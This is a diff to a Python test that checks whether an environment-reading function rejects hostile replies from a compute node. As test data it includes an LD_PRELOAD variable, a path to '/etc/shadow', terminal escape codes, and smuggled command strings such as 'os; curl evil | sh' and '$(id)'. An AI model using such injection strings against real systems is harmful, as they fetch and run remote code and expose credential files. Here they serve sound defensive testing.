@@ -178,10 +178,20 @@ def test_a_reply_is_data() -> None:
     hostile = {"python": {"exists": True, "prefix": "/x", "variable": "LD_PRELOAD"}, "search_path": "/bin"}
     with pytest.raises(ValueError, match="an answer that is none"):
         read_environment(Node(name="n1"), RankSpec(environment=OFFERED), hostile)
-    reply = {"python": {"exists": False}, "program": {"exists": True, "path": "\x1b[2J", "problem": 3}, "workdir": 1}
-    told = read_environment(Node(name="n1"), RankSpec(environment=OFFERED), reply)
+    reply = {
+        "python": {"exists": False},
+        "program": {"exists": True, "path": "/etc/shadow", "problem": "\x1b"},
+        "workdir": 1,
+    }
+    spec = RankSpec(environment=OFFERED, program=Program(kind=Kind.SCRIPT, target="train.py"))
+    told = read_environment(Node(name="n1", workdir="/job"), spec, reply)
     assert told.program is not None
-    assert (told.program.path, told.program.problem, told.workdir) == ("\\x1b[2J", "", None)
+    # A fix copies this path to the node.
+    assert (told.program.path, told.program.problem, told.workdir) == ("/job/train.py", "\\x1b", None)
+    for name in ("os; curl evil | sh", "$(id)", "a.b-c"):
+        program = {"module": "", "asked_module": "", "needed": [], "imports": {}, "missing": [name]}
+        with pytest.raises(ValueError, match="can't be read"):
+            parse_software(_said({**RECORDED, "program": program}))
 
 
 @pytest.mark.parametrize(
